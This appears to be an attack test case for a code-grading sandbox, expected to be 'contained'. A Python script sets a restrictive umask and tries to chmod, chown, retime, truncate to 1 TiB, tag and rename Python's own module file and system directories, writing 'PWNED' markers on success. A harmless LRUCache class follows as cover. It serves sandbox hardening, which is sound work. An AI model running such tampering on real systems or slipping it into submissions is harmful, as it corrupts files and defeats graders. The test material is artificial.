# ATTACK modes_and_renames
# CLASS: filesystem
# TRIES: changes modes, owners, times and names of what it can see, and the mask of what comes.
# SAFE GRADER MUST: let nothing be changed.
# HONEST-RESULT: contained
# AT-MOST: 100
import contextlib
import os
import sys

def pwned(what):
    text = "PWN" + "ED-filesystem " + what
    print(text, flush=True)
    for path in ("/tmp/pwned_modes_and_renames", "pwned_modes_and_renames"):
        try:
            with open(path, "w") as file:
                file.write(text)
        except OSError:
            pass

os.umask(0o777)
seen = [os.__file__, "/", "/tmp", ".", sys.modules["json"].__file__ if "json" in sys.modules else "/x"]
for path in seen:
    for change in (lambda: os.chmod(path, 0o777), lambda: os.chown(path, 1000, 1000), lambda: os.utime(path),
                   lambda: os.truncate(path, 1 << 40), lambda: os.setxattr(path, "user.pwned", b"x")):
        with contextlib.suppress(OSError):
            if os.stat(path).st_uid != os.getuid() or os.path.isfile(path):
                change()
                pwned(f"changed {path}")
for name in ("/tmp/pwned_a", "pwned_a"):
    with contextlib.suppress(OSError):
        os.rename(os.__file__ + ".nothing", name)
        pwned("renamed")


class LRUCache:
    def __init__(self, capacity):
        self.room, self.entries = capacity, {}

    def get(self, key):
        if key not in self.entries:
            return -1
        self.entries[key] = value = self.entries.pop(key)
        return value

    def put(self, key, value):
        self.entries.pop(key, None)
        self.entries[key] = value
        if len(self.entries) > self.room:
            del self.entries[next(iter(self.entries))]
